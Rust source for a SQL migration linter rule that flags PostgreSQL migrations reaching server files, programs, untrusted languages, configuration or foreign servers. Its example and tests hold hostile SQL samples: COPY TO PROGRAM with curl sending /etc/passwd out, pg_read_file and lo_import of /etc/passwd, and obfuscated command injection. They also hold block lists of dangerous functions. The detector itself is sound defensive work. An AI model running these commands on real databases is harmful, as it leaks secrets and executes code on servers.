//! `server-side-access`: A migration runs programs or reads and writes files on the database server, loads untrusted code, changes the server's configuration, connects to other servers, or hands out those powers.

use super::prelude::*;
use super::CATEGORY;

pub static SERVER_SIDE_ACCESS: Rule = Rule {
    id: "server-side-access",
    severity: Severity::Error,
    on: true,
    category: CATEGORY,
    summary: "A migration runs programs or reads and writes files on the database server, loads untrusted code, changes the server's configuration, connects to other servers, or hands out those powers.",
    why: "Migrations run with the deploy role's rights. `COPY … PROGRAM`, `pg_read_file`, `lo_import`/`lo_export`, untrusted languages (plpython3u, plperlu, C), `LOAD`, `ALTER SYSTEM`, dblink and foreign servers reach past the database to the server's files, processes and configuration or to other hosts; granting superuser or `pg_execute_server_program` hands that on. From a pull request this is how a migration reads secrets or takes over a server, and in review it is easy to miss.",
    fix: "Do it outside migrations, in an operations job with its own audited credentials. When a migration really needs it (an extension the team vetted), say so above the statement: `-- sqlgate:ignore server-side-access -- <why it is safe>`.",
    bad: "COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd https://example.com';",
    good: "COPY staging_import FROM STDIN;  -- data sent by the client, not read on the server",
    apply: Apply::Runs,
    claim: Claim::Nothing,
    sized: false,
};

/// Functions that reach the server's files or processes, or other servers.
const SERVER_FUNCTIONS: &[&str] = &[
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "lo_import",
    "lo_export",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
    "pg_file_sync",
    "pg_logdir_ls",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_send_query",
    "dblink_open",
    "pg_reload_conf",
];

/// Extensions that reach past the database (files, programs, other servers) or
/// bring an untrusted language.
const SERVER_EXTENSIONS: &[&str] = &[
    "dblink",
    "postgres_fdw",
    "file_fdw",
    "adminpack",
    "plpython3u",
    "plpythonu",
    "plpython2u",
    "plperlu",
    "pltclu",
    "plsh",
    "pg_execute_server_program",
];

/// Languages whose code runs with the server's operating-system rights.
const UNTRUSTED_LANGUAGES: &[&str] = &[
    "plpython3u",
    "plpythonu",
    "plpython2u",
    "plperlu",
    "pltclu",
    "plsh",
    "c",
    "internal",
];

/// Roles whose members run programs or read and write the server's files.
const SERVER_ROLES: &[&str] = &[
    "pg_execute_server_program",
    "pg_read_server_files",
    "pg_write_server_files",
];

/// Server-side access inside a function or DO body (text sqlgate does not parse).
fn body_access(body: &str) -> Option<String> {
    static RE: std::sync::OnceLock<Option<regex::Regex>> = std::sync::OnceLock::new();
    let re = RE
        .get_or_init(|| {
            regex::Regex::new(&format!(
                r"(?i)\b({})\s*\(|\b(?:to|from)\s+program\b|\bcopy\b[^;]*\b(?:to|from)\s+'|\balter\s+system\b",
                SERVER_FUNCTIONS.join("|")
            ))
            .ok()
        })
        .as_ref()?;
    re.find(body).map(|m| m.as_str().trim().to_string())
}

/// `server-side-access`: what reaches past the database.
pub fn check(cx: &Ctx, _: &mut MigrationState, out: &mut Vec<Finding>) {
    if let Some(what) = files_and_settings(cx)
        .or_else(|| code_and_roles(cx))
        .or_else(|| calls(cx))
    {
        cx.push(out, &SERVER_SIDE_ACCESS, -1, what, None);
    }
}

/// Server files and programs (`COPY`), event triggers, settings that load libraries
/// or change the server's configuration.
fn files_and_settings(cx: &Ctx) -> Option<String> {
    match cx.node() {
        NodeEnum::CopyStmt(c) if c.is_program => {
            return Some(format!(
                "COPY … {} PROGRAM runs a shell command on the database server as its operating-system user",
                if c.is_from { "FROM" } else { "TO" }
            ));
        }
        NodeEnum::CopyStmt(c) if !c.filename.is_empty() => {
            return Some(format!(
                "COPY … {} '{}' {} a file on the database server",
                if c.is_from { "FROM" } else { "TO" },
                c.filename,
                if c.is_from { "reads" } else { "writes" }
            ));
        }
        NodeEnum::CreateEventTrigStmt(t) => {
            return Some(format!(
                "CREATE EVENT TRIGGER {} runs its function on every matching command of every role in the database, with the rights of whoever runs it",
                names::ident(&t.trigname)
            ));
        }
        NodeEnum::AlterDatabaseSetStmt(a) => {
            if let Some(name) = preload(a.setstmt.as_ref()) {
                return Some(format!(
                    "ALTER DATABASE {} SET {name} makes every new session of the database load a shared library into the server process",
                    names::ident(&a.dbname)
                ));
            }
        }
        NodeEnum::AlterRoleSetStmt(a) => {
            if let Some(name) = preload(a.setstmt.as_ref()) {
                return Some(format!(
                    "ALTER ROLE … SET {name} makes the role's sessions load a shared library into the server process"
                ));
            }
        }
        NodeEnum::VariableSetStmt(v)
            if PRELOAD_SETTINGS.contains(&v.name.to_lowercase().as_str()) =>
        {
            return Some(format!(
                "SET {} loads shared libraries into the server process",
                v.name.to_lowercase()
            ));
        }
        NodeEnum::AlterSystemStmt(_) => {
            return Some(
                "ALTER SYSTEM changes the server's configuration file (postgresql.auto.conf)"
                    .into(),
            );
        }
        NodeEnum::LoadStmt(l) => {
            return Some(format!(
                "LOAD '{}' loads a shared library into the server process",
                l.filename
            ));
        }
        _ => {}
    }
    None
}

/// Extensions, languages and foreign servers that reach past the database, function
/// and DO bodies that do, and roles that may.
fn code_and_roles(cx: &Ctx) -> Option<String> {
    match cx.node() {
        NodeEnum::CreateExtensionStmt(e) if SERVER_EXTENSIONS.contains(&e.extname.as_str()) => {
            return Some(format!(
                "CREATE EXTENSION {} reaches past the database (other servers, files or an untrusted language)",
                names::ident(&e.extname)
            ));
        }
        NodeEnum::CreatePlangStmt(l) => {
            return Some(format!(
                "CREATE LANGUAGE {} installs a procedural language{}",
                names::ident(&l.plname),
                if l.pltrusted {
                    ""
                } else {
                    " whose code runs with the server's operating-system rights"
                }
            ));
        }
        NodeEnum::CreateFdwStmt(_)
        | NodeEnum::CreateForeignServerStmt(_)
        | NodeEnum::CreateUserMappingStmt(_)
        | NodeEnum::ImportForeignSchemaStmt(_) => {
            return Some("foreign data wrappers, servers and user mappings connect this database to other servers".into(),
            );
        }
        NodeEnum::CreateFunctionStmt(f) => {
            let language = crate::sql::ast::language(&f.options).unwrap_or_default();
            let name = names::strings(&f.funcname).join(".");
            if UNTRUSTED_LANGUAGES.contains(&language.as_str()) {
                return Some(format!(
                    "function {name} is written in {language}, which runs with the server's operating-system rights"
                ));
            }
            let body = def_elems(&f.options)
                .filter(|d| d.defname == "as")
                .flat_map(crate::sql::ast::strings_of)
                .find_map(|b| body_access(&b));
            if let Some(found) = body {
                return Some(format!(
                    "function {name} reaches past the database: its body uses `{found}`"
                ));
            }
        }
        NodeEnum::DoStmt(d) => {
            let language = crate::sql::ast::language(&d.args).unwrap_or_else(|| "plpgsql".into());
            if UNTRUSTED_LANGUAGES.contains(&language.as_str()) {
                return Some(format!(
                    "a DO block in {language} runs with the server's operating-system rights"
                ));
            }
            let body = def_elems(&d.args)
                .filter(|a| a.defname == "as")
                .filter_map(crate::sql::ast::string_arg)
                .find_map(body_access);
            if let Some(found) = body {
                return Some(format!(
                    "a DO block reaches past the database: it uses `{found}`"
                ));
            }
        }
        NodeEnum::GrantRoleStmt(g) if g.is_grant => {
            let granted: Vec<String> = nodes(&g.granted_roles)
                .filter_map(|n| match n {
                    NodeEnum::AccessPriv(p) => Some(p.priv_name.clone()),
                    _ => None,
                })
                .filter(|r| SERVER_ROLES.contains(&r.as_str()))
                .collect();
            if !granted.is_empty() {
                return Some(format!(
                    "GRANT {} hands out running programs or reading and writing files on the server",
                    granted.join(", ")
                ));
            }
        }
        NodeEnum::CreateRoleStmt(r) if grants_superuser(&r.options) => {
            return Some(format!(
                "role {} is created as a superuser",
                names::ident(&r.role)
            ));
        }
        NodeEnum::AlterRoleStmt(r) if grants_superuser(&r.options) => {
            let role = r
                .role
                .as_ref()
                .map(|s| s.rolename.clone())
                .unwrap_or_default();
            return Some(format!("role {} is made a superuser", names::ident(&role)));
        }
        _ => {}
    }
    None
}

/// Functions that reach the server's files or processes, called anywhere in the
/// statement.
fn calls(cx: &Ctx) -> Option<String> {
    // Functions anywhere in the statement: SELECT pg_read_file(…), lo_export(…), dblink(…).
    for (n, ..) in cx.node().nodes() {
        if let pg_query::NodeRef::FuncCall(f) = n {
            let name = names::strings(&f.funcname)
                .last()
                .cloned()
                .unwrap_or_default()
                .to_lowercase();
            if SERVER_FUNCTIONS.contains(&name.as_str()) {
                return Some(format!(
                    "{name}() reaches past the database: the server's files or processes, or another server"
                ));
            }
        }
    }
    // Calls the parse-tree walk does not reach (inside PREPARE, a column default, a
    // VALUES list): by the statement's tokens.
    if let Some((name, _)) = crate::sql::dynamic::calls(cx.text(), SERVER_FUNCTIONS)
        .into_iter()
        .next()
    {
        return Some(format!(
            "{name}() reaches past the database: the server's files or processes, or another server"
        ));
    }
    None
}

/// Settings that load shared libraries (or choose where they come from).
const PRELOAD_SETTINGS: &[&str] = &[
    "session_preload_libraries",
    "local_preload_libraries",
    "shared_preload_libraries",
    "dynamic_library_path",
    "jit_provider",
];

fn preload(set: Option<&pg_query::protobuf::VariableSetStmt>) -> Option<String> {
    let name = set?.name.to_lowercase();
    PRELOAD_SETTINGS.contains(&name.as_str()).then_some(name)
}

fn grants_superuser(options: &[Node]) -> bool {
    def_elems(options).any(|d| d.defname == "superuser" && bool_arg(d))
}

#[cfg(test)]
mod tests {
    use crate::rules::sql::test_support::{pair, T};

    #[test]
    fn fires_and_its_look_alike_does_not() {
        pair(
            "server-side-access",
            &[],
            "copy (select 1) to program 'env > /tmp/env.txt';",
            "copy t from stdin;",
        );
        pair(
            "server-side-access",
            &[T],
            "copy t to '/tmp/t.csv';",
            "copy t to stdout;",
        );
        pair(
            "server-side-access",
            &[],
            "select pg_read_file('/etc/passwd');",
            "select pg_size_pretty(1024::bigint);",
        );
        pair(
            "server-side-access",
            &[],
            "select lo_export(1234, '/tmp/x');",
            "select lo_create(0);",
        );
        pair(
            "server-side-access",
            &[],
            "create extension plpython3u;",
            "create extension pgcrypto;",
        );
        pair(
            "server-side-access",
            &[],
            "create extension dblink;",
            "create extension pg_trgm;",
        );
        pair(
            "server-side-access",
            &[],
            "create function f() returns int language plpython3u as $$ return 1 $$;",
            "create function f() returns int language sql as $$ select 1 $$;",
        );
        pair("server-side-access", &[], "create function f() returns void language plpgsql as $$ begin perform pg_read_file('/etc/passwd'); end $$;", "create function f() returns void language plpgsql as $$ begin perform 1; end $$;");
        pair(
            "server-side-access",
            &[],
            "do $$ begin execute 'copy t to program ''id'''; end $$;",
            "do $$ begin raise notice 'hello'; end $$;",
        );
        pair(
            "server-side-access",
            &[],
            "-- sqlgate:no-transaction\nalter system set work_mem = '1GB';",
            "set work_mem = '1GB';",
        );
        pair(
            "server-side-access",
            &[],
            "do $$ begin execute 'cop' || 'y (select 1) to prog' || 'ram ''id > /tmp/x'''; end $$;",
            "do $$ begin execute 'select ' || '1'; end $$;",
        );
        pair(
            "server-side-access",
            &[],
            "prepare p as select pg_read_file('/etc/hostname'); create table leak as execute p;",
            "prepare p as select 1; execute p;",
        );
        pair(
            "server-side-access",
            &[],
            "select query_to_xml('select lo_import(''/etc/passwd'') as o', true, false, '');",
            "select query_to_xml('select 1 as o', true, false, '');",
        );
        pair(
            "server-side-access",
            &[],
            "alter database app set session_preload_libraries = 'evil';",
            "alter database app set work_mem = '64MB';",
        );
        pair(
            "server-side-access",
            &[],
            "alter role app set local_preload_libraries = 'evil';",
            "alter role app set statement_timeout = '5s';",
        );
        pair(
            "server-side-access",
            &[],
            "create event trigger t on ddl_command_start execute function f();",
            "create trigger t before insert on t for each row execute function f();",
        );
        pair(
            "server-side-access",
            &[],
            "create table t (a text default pg_read_file('/etc/hostname'));",
            "create table t (a text default 'x');",
        );
        pair("server-side-access", &[], "create server other foreign data wrapper postgres_fdw options (host 'evil.example.com');", "create schema other;");
        pair(
            "server-side-access",
            &[],
            "grant pg_execute_server_program to app;",
            "grant pg_read_all_data to app;",
        );
        pair(
            "server-side-access",
            &[],
            "alter role app superuser;",
            "alter role app nosuperuser;",
        );
        pair(
            "server-side-access",
            &[],
            "load 'auto_explain';",
            "select 1;",
        );
    }
}
